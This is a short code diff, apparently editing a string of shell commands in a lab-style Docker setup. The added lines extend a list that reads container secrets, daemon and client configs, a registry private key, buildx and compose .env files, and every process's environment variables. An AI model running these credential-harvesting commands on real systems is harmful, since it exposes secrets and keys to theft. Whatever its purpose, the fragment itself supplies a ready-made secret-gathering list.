@@ -22,6 +22,8 @@ docker exec $(docker ps -q --filter name=secrets-service) cat /run/secrets/app-s
 docker info; ls /srv
 cat /etc/docker/daemon.json /etc/default/docker /etc/sysconfig/docker /root/.docker/config.json
 cat /etc/docker/certs.d/registry.lab/client.key /etc/systemd/system/docker.service.d/*.conf
+cat /root/.docker/buildx/instances/far /root/.docker/contexts/meta/far/meta.json
+cat /etc/buildkit/buildkitd.toml /etc/containers/policy.json /srv/compose/.env
 grep -h TOKEN= /lib/systemd/system/docker.service /etc/systemd/system/docker.service
 for p in /proc/[0-9]*; do cat $p/cmdline $p/environ 2>/dev/null | tr "\\0" "\\n"; done
 `;
